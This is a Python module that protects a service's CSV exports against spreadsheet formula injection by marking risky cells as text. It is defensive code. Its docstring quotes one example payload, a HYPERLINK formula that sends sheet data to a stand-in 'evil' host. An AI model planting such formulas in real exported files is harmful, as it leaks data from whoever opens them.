"""Spreadsheet-safe CSV cells: pure text functions for every CSV the service writes.

A cell that starts with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which
some spreadsheets strip before reading the rest as a formula) is run as a formula when
the file is opened in Excel, LibreOffice or Google Sheets: a run id such as
``=HYPERLINK("http://evil/?"&A1)`` would send the sheet's data away. Such cells are
written with a leading ``'``, which spreadsheets read as "this is text" and do not show.
A negative number (``-0.5``) is a number, not a formula, and stays as it is.

Imported by the dashboard's CSV download and by ``cadence export``; ``cadence report``
reverses it, so an export can be reported again as it is.
"""

from __future__ import annotations

import json
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def needs_text_mark(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (or a marked cell)."""
    if text.startswith(TEXT_MARK):
        return True  # marked as well, so that reading back is exact (see text_from_cell)
    if not text.startswith(FORMULA_STARTS):
        return False
    return not (text.startswith("-") and _is_number(text))


def cell_from_text(text: str) -> str:
    """The CSV cell for a text value: ``'=1+1`` for ``=1+1``, unchanged when harmless."""
    return TEXT_MARK + text if needs_text_mark(text) else text


def text_from_cell(cell: str) -> str:
    """The inverse of :func:`cell_from_text` for cells this service wrote."""
    if cell.startswith(TEXT_MARK) and needs_text_mark(cell[1:]):
        return cell[1:]
    return cell


def csv_value(value: Any) -> str:
    """A JSON value as a CSV cell; text that a spreadsheet would run as a formula is
    marked as text. Used by the dashboard's download and ``cadence export``."""
    if isinstance(value, str):
        return cell_from_text(value)
    if value is None:
        return ""
    if isinstance(value, (list, dict)):
        return json.dumps(value, sort_keys=True, separators=(",", ":"))
    if hasattr(value, "isoformat"):
        return str(value.isoformat())
    return str(value)
